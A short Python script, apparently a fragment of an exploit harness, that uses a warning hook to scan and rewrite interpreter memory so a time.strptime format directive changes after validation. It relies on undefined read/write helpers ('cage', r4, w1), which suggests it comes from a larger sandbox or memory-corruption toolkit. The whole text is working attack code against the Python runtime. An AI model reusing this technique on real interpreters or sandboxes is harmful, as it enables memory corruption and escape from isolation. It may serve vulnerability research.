# A warning runs guest code that changes the directives of a format after they were checked.
import time, warnings
want = b"%" + b"d %Z UNIQ#"
done = 0
def changed(*a, **k):
    global done
    at = 0x1000000
    while at < 0x1000000 + 0x2000000:
        try: data = cage.read(at, 0x80000)
        except ValueError: break
        p = -1
        while (p := data.find(want, p + 1)) >= 0:
            q = at + p
            if q - 16 > 0 and r4(q - 12) < 200 and r4(q - 16) == r4(id("abcd" + str(done))):
                w1(q + 4, LETTER); done += 1
        at += 0x80000 - 64
warnings.simplefilter("always")
warnings.showwarning = changed
text = "5 UTC UNIQ" + "#" * 20
fmt = "%Od %Z UNIQ" + "#" * 20
LETTER = 128 + attempt % 128
r = time.strptime(text, fmt)
print(LETTER, done, r)
